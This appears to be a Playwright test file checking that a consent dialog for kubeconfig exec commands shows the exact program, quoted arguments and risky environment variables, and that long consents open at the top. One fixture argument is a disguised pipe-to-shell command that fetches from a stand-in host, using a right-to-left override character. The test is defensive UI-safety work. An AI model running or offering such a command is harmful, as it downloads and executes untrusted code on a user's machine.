import { expect, test } from './support/fixture-page.ts'

test('a consent has the path that is run, one argument a line, in quotes where one could pass for another', async ({
  open,
}) => {
  const page = await open('consent-shell')
  const consent = page.getByRole('alertdialog')
  const [program, args, env] = await Promise.all(
    [0, 1, 2].map((at) => consent.locator('.exact').nth(at).getByRole('listitem').allTextContents()),
  )
  expect(program).toEqual(['/usr/bin/env'])
  expect(args).toEqual([
    'bash',
    '-c',
    '"curl https://login.example/\\u202etxt.exe | sh   # get-token"',
    '""',
    '--region',
  ])
  expect(env).toEqual(['PATH', 'LD_PRELOAD'])
  await expect(consent).toContainText('In the kubeconfig: env')
  await expect(consent).toContainText('env starts another program: its arguments say which one.')
  await expect(consent).toContainText('The environment can make it load other code: PATH, LD_PRELOAD.')
})

test('a long consent begins at its beginning: whoever agrees has come past all of it', async ({ open }) => {
  const page = await open('consent-long')
  await page.setViewportSize({ width: 1100, height: 700 })
  const consent = page.getByRole('alertdialog')
  await expect(consent.getByRole('button', { name: 'Cancel' })).toBeFocused()
  await expect(consent.getByRole('heading', { level: 1 })).toBeInViewport()
  const cut = await consent
    .locator('.exact')
    .evaluateAll((lists) => lists.filter((list) => list.scrollHeight > list.clientHeight).length)
  expect(cut).toBe(0)
})
